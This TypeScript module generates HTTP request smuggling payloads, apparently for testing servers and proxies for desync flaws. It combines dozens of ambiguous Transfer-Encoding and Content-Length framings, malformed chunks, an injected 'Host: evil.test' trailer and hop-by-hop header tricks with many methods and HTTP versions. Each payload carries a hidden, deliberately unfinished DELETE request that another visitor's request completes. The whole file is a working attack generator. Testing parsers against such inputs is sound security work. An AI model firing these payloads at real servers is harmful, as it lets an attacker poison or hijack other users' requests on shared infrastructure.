/** A path that no honest request names: a program that hears of it took a body for a request. */
export const SMUGGLED_PATH = '/smuggled';

const METHODS_WITHOUT_BODY = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'get', 'PROPFIND', 'TRACE'];
const METHODS_WITH_BODY = ['POST', 'PUT', 'PATCH'];
const METHODS = [...METHODS_WITHOUT_BODY, ...METHODS_WITH_BODY];

const UNFINISHED = 'a chunk that says more';

const chunked = (body: string) => `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;

/** Every way to say how long a body is that some server somewhere reads differently from another one. */
function framings(body: string): Record<string, { headers: string; body: string }> {
  const te = (spelling: string, framed = chunked(body)) => ({ headers: `${spelling}\r\n`, body: framed });
  const { length } = body;
  return {
    'a plain chunked body': te('Transfer-Encoding: chunked'),
    'upper case': te('TRANSFER-ENCODING: CHUNKED'),
    'no blank': te('Transfer-Encoding:chunked'),
    'a tab before the value': te('Transfer-Encoding:\tchunked'),
    'a blank after the value': te('Transfer-Encoding: chunked '),
    'a blank before the colon': te('Transfer-Encoding : chunked'),
    'a vertical tab': te('Transfer-Encoding: \x0bchunked'),
    'a leading comma': te('Transfer-Encoding: , chunked'),
    quoted: te('Transfer-Encoding: "chunked"'),
    'an unknown coding': te('Transfer-Encoding: xchunked'),
    'a coding before it': te('Transfer-Encoding: gzip, chunked'),
    'a coding after it': te('Transfer-Encoding: chunked, identity'),
    identity: te('Transfer-Encoding: identity', body),
    twice: te('Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked'),
    'twice, then identity': te('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity'),
    underscored: te('Transfer_Encoding: chunked'),
    folded: te('Transfer-Encoding:\r\n chunked'),
    'a bare line feed': te('X-A: b\nTransfer-Encoding: chunked'),
    'a bare carriage return': te('X-A: b\rTransfer-Encoding: chunked'),
    'a length': { headers: `Content-Length: ${length}\r\n`, body },
    'a length with a sign': { headers: `Content-Length: +${length}\r\n`, body },
    'a length in hexadecimal': { headers: `Content-Length: 0x${length.toString(16)}\r\n`, body },
    'two lengths': { headers: `Content-Length: 0\r\nContent-Length: ${length}\r\n`, body },
    'one length twice': { headers: `Content-Length: ${length}\r\nContent-Length: ${length}\r\n`, body },
    'a list of lengths': { headers: `Content-Length: ${length}, ${length}\r\n`, body },
    'a length of nothing': { headers: 'Content-Length: 0\r\n', body },
    'an empty length': { headers: 'Content-Length:\r\n', body },
    'no length': { headers: '', body },
    'a length and chunks': te(`Content-Length: ${length}\r\nTransfer-Encoding: chunked`),
    'chunks and a length': te('Transfer-Encoding: chunked\r\nContent-Length: 5'),
    'an empty chunked body': te('Transfer-Encoding: chunked', `0\r\n\r\n${body}`),
    'a chunk that says less': te('Transfer-Encoding: chunked', `1\r\n${body}\r\n0\r\n\r\n`),
    [UNFINISHED]: te('Transfer-Encoding: chunked', `ffff\r\n${body}\r\n0\r\n\r\n`),
    'a chunk of no number': te('Transfer-Encoding: chunked', `zz\r\n${body}\r\n0\r\n\r\n`),
    'a chunk with an extension': te(
      'Transfer-Encoding: chunked',
      `${length.toString(16)};a=b\r\n${body}\r\n0\r\n\r\n`,
    ),
    'a chunk ended by a line feed': te(
      'Transfer-Encoding: chunked',
      `${length.toString(16)}\n${body}\n0\n\n`,
    ),
    trailers: te(
      'Transfer-Encoding: chunked',
      `${length.toString(16)}\r\n${body}\r\n0\r\nContent-Length: 0\r\nHost: evil.test\r\n\r\n`,
    ),
    'a body that is announced and waited for': {
      headers: `Expect: 100-continue\r\nContent-Length: ${length}\r\n`,
      body,
    },
    'a connection that drops the length': {
      headers: `Connection: content-length, host, x-forwarded-host\r\nContent-Length: ${length}\r\n`,
      body,
    },
    'a connection that drops the coding': te('Connection: transfer-encoding\r\nTransfer-Encoding: chunked'),
    'an upgrade': te('Connection: upgrade\r\nUpgrade: h2c\r\nTransfer-Encoding: chunked'),
  };
}

export type HostileRequest = {
  what: string;
  bytes: string;
  /** Whether a server that reads it right waits for more. */
  isUnfinished: boolean;
};

/**
 * Requests whose body is a request of its own, for whoever misreads where the body ends.
 * @param host the tenant whose visitor the attacker is
 * @param path what the outer request asks for
 * @param inner the line and headers of the smuggled request; left open, so that the next visitor's request completes it
 */
export function listHostileRequests({ host, path }: { host: string; path: string }): HostileRequest[] {
  const inner = `DELETE ${SMUGGLED_PATH} HTTP/1.1\r\nHost: ${host}\r\nX-Rest: `;
  const outer = (method: string, version: string, target: string, headers: string) =>
    `${method} ${target} HTTP/${version}\r\nHost: ${host}\r\n${headers}\r\n`;
  return Object.entries(framings(inner)).flatMap(([name, { headers, body }]) =>
    METHODS.flatMap((method) => {
      const request = (version: string, target = path) => outer(method, version, target, headers) + body;
      const isUnfinished = name === UNFINISHED;
      return [
        { what: `${method}, ${name}`, bytes: request('1.1'), isUnfinished },
        { what: `${method} of HTTP/1.0, ${name}`, bytes: request('1.0'), isUnfinished },
        {
          what: `${method} of an absolute address, ${name}`,
          bytes: request('1.1', `http://${host}${path}`),
          isUnfinished,
        },
        {
          what: `${method} after an honest one, ${name}`,
          bytes: outer('GET', '1.1', path, '') + request('1.1'),
          isUnfinished,
        },
      ];
    }),
  );
}
